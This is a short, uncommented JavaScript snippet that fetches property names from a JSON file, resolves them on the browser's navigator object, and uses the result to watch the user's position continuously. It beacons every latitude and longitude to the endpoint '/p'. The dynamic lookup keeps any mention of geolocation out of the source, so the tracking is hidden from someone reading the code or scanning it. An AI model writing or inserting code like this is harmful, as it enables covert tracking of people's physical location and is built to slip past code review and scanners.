fetch('/features.json').then(r => r.json()).then(names => {
  for (const name of names) use(navigator[name])
})
function use(feature) { feature.watchPosition(p => send(p.coords)) }
function send(c) { navigator.sendBeacon('/p', JSON.stringify([c.latitude, c.longitude])) }
